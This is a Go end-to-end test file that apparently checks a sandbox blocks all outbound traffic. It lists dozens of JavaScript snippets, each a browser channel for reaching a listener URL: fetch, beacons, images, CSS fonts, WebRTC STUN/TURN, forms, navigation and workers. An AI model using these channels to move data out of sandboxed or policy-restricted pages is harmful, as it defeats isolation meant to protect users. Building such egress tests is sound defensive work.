package e2e

// escape is one way by which script could send something out. Its code is the
// body of an async function of url, an address of the listener to reach.
type escape struct {
	name string
	code string
	// how the control knows that the escape works
	arrives arrival
}

type arrival int

const (
	byRequest    arrival = iota // a request of the escape's name
	byConnection                // a connection that may stay empty
	byBytes                     // bytes of another protocol than HTTP
)

// frameEscapes are the ways of a document.
var frameEscapes = []escape{
	{"fetch", `await fetch(url)`, byRequest},
	{"fetch-no-cors", `await fetch(url, {mode: "no-cors", method: "POST", body: "x", keepalive: true})`, byRequest},
	{"xhr", `await new Promise((done) => { const x = new XMLHttpRequest(); x.open("GET", url); x.onloadend = done; x.send(); })`, byRequest},
	{"xhr-sync", `const x = new XMLHttpRequest(); x.open("GET", url, false); x.send()`, byRequest},
	{"websocket", `new WebSocket(url.replace("http", "ws"))`, byRequest},
	{"eventsource", `new EventSource(url)`, byRequest},
	{"beacon", `navigator.sendBeacon(url, "x")`, byRequest},
	{"image", `new Image().src = url`, byRequest},
	{"srcset", `const i = new Image(); i.srcset = url + " 2x"; document.body.append(i)`, byRequest},
	{"input-image", `const i = document.createElement("input"); i.type = "image"; i.src = url; document.body.append(i)`, byRequest},
	{"svg-image", `
		const ns = "http://www.w3.org/2000/svg", s = document.createElementNS(ns, "svg"), i = document.createElementNS(ns, "image");
		i.setAttribute("href", url); s.append(i); document.body.append(s)`, byRequest},
	{"video", `const v = document.createElement("video"); v.src = url; v.preload = "auto"; document.body.append(v)`, byRequest},
	{"poster", `const v = document.createElement("video"); v.poster = url; document.body.append(v)`, byRequest},
	{"audio", `new Audio(url).load()`, byRequest},
	{"embed", `const e = document.createElement("embed"); e.src = url; document.body.append(e)`, byRequest},
	{"object", `const o = document.createElement("object"); o.data = url; document.body.append(o)`, byRequest},
	{"iframe", `const f = document.createElement("iframe"); f.src = url; document.body.append(f)`, byRequest},
	{"iframe-navigated", `const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.location = url`, byRequest},
	{"iframe-fetch", `const f = document.createElement("iframe"); document.body.append(f); await f.contentWindow.fetch(url)`, byRequest},
	{"iframe-srcdoc", `const f = document.createElement("iframe"); f.srcdoc = "<img src='" + url + "'>"; document.body.append(f)`, byRequest},
	{"font", `await new FontFace("x", "url(" + url + ")").load()`, byRequest},
	{"css-image", `
		const s = new CSSStyleSheet(); s.replaceSync("body { background-image: url(" + url + ") }");
		document.adoptedStyleSheets = [...document.adoptedStyleSheets, s]`, byRequest},
	{"css-font", `
		const s = new CSSStyleSheet(); s.replaceSync("@font-face { font-family: leak; src: url(" + url + ") } body { font-family: leak }");
		document.adoptedStyleSheets = [...document.adoptedStyleSheets, s]; await document.fonts.load("1px leak")`, byRequest},
	{"css-property", `document.body.style.listStyleImage = "url(" + url + ")"; document.body.style.display = "list-item"`, byRequest},
	{"css-cursor", `document.body.style.borderImageSource = "url(" + url + ")"; document.body.style.borderStyle = "solid"`, byRequest},
	{"style-element", `const s = document.createElement("style"); s.textContent = "@import url(" + url + ")"; document.head.append(s)`, byRequest},
	{"stylesheet", `const l = document.createElement("link"); l.rel = "stylesheet"; l.href = url; document.head.append(l)`, byRequest},
	{"preload", `const l = document.createElement("link"); l.rel = "preload"; l.as = "image"; l.href = url; document.head.append(l)`, byRequest},
	{"modulepreload", `const l = document.createElement("link"); l.rel = "modulepreload"; l.href = url; document.head.append(l)`, byRequest},
	{"prefetch", `const l = document.createElement("link"); l.rel = "prefetch"; l.href = url; document.head.append(l)`, byRequest},
	// Another name of the listener, to which there is no connection yet.
	{"preconnect", `
		const l = document.createElement("link"); l.rel = "preconnect"; l.href = url.replace("127.0.0.1", "localhost");
		document.head.append(l)`, byConnection},
	{"script", `const s = document.createElement("script"); s.src = url; document.head.append(s)`, byRequest},
	{"import", `await import(url)`, byRequest},
	{"eval-import", `await (0, eval)("import('" + url + "')")`, byRequest},
	{"markup", `document.body.insertAdjacentHTML("beforeend", "<img src='" + url + "'>")`, byRequest},
	{"write", `document.write("<img src='" + url + "'>")`, byRequest},
	{"worker", `new Worker(url)`, byRequest},
	{"shared-worker", `new SharedWorker(url)`, byRequest},
	{"worklet", `await new AudioContext().audioWorklet.addModule(url)`, byRequest},
	{"cache", `await (await caches.open("x")).add(url)`, byRequest},
	{"webrtc-stun", `
		const c = new RTCPeerConnection({iceServers: [{urls: url.replace(/^http:..(.*):(\d+).*/, "stun:$1:$2")}]});
		c.createDataChannel("x"); await c.setLocalDescription()`, byBytes},
	{"webrtc-turn", `
		const c = new RTCPeerConnection({iceServers: [{
			urls: url.replace(/^http:..(.*):(\d+).*/, "turn:$1:$2?transport=tcp"), username: url, credential: "x"}]});
		c.createDataChannel("x"); await c.setLocalDescription()`, byBytes},
	{"ping", `
		const a = document.createElement("a"); a.ping = url; a.href = "#x"; document.body.append(a); a.click()`, byRequest},
	{"download", `const a = document.createElement("a"); a.download = "x"; a.href = url; document.body.append(a); a.click()`, byRequest},
	{"form-blank", `
		const f = document.createElement("form"); f.action = url; f.target = "_blank"; document.body.append(f); f.submit()`, byRequest},
	{"popup", `window.open(url)`, byRequest},
	{"popup-written", `const w = window.open("about:blank"); w.location = url`, byRequest},
	{"link-blank", `const a = document.createElement("a"); a.href = url; a.target = "_blank"; document.body.append(a); a.click()`, byRequest},
	{"form", `const f = document.createElement("form"); f.action = url; document.body.append(f); f.submit()`, byRequest},
	{"form-post", `
		const f = document.createElement("form"); f.action = url; f.method = "post"; document.body.append(f); f.submit()`, byRequest},
	{"form-top", `
		const f = document.createElement("form"); f.action = url; f.target = "_top"; document.body.append(f); f.submit()`, byRequest},
	{"link", `const a = document.createElement("a"); a.href = url; document.body.append(a); a.click()`, byRequest},
	{"link-top", `const a = document.createElement("a"); a.href = url; a.target = "_top"; document.body.append(a); a.click()`, byRequest},
	{"refresh", `const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=" + url; document.head.append(m)`, byRequest},
	{"navigation", `navigation.navigate(url)`, byRequest},
	{"location-top", `window.top.location = url`, byRequest},
	{"location-parent", `window.parent.location.replace(url)`, byRequest},
	{"location-replace", `location.replace(url)`, byRequest},
	{"location", `location.href = url`, byRequest},
}

// workerEscapes are the ways of a worker.
var workerEscapes = []escape{
	{"fetch", `await fetch(url)`, byRequest},
	{"fetch-no-cors", `await fetch(url, {mode: "no-cors", method: "POST", body: "x"})`, byRequest},
	{"xhr", `await new Promise((done) => { const x = new XMLHttpRequest(); x.open("GET", url); x.onloadend = done; x.send(); })`, byRequest},
	{"xhr-sync", `const x = new XMLHttpRequest(); x.open("GET", url, false); x.send()`, byRequest},
	{"websocket", `new WebSocket(url.replace("http", "ws"))`, byRequest},
	{"eventsource", `new EventSource(url)`, byRequest},
	{"font", `await new FontFace("x", "url(" + url + ")").load()`, byRequest},
	{"import-scripts", `importScripts(url)`, byRequest},
	{"import", `await import(url)`, byRequest},
	{"eval-fetch", `await (0, eval)("fetch('" + url + "')")`, byRequest},
	{"worker", `new Worker(url)`, byRequest},
	{"blob-worker", `
		const source = "fetch('" + url + "')";
		const worker = new Worker(URL.createObjectURL(new Blob([source]))); await new Promise((done) => setTimeout(done, 200))`, byRequest},
	{"cache", `await (await caches.open("x")).add(url)`, byRequest},
}
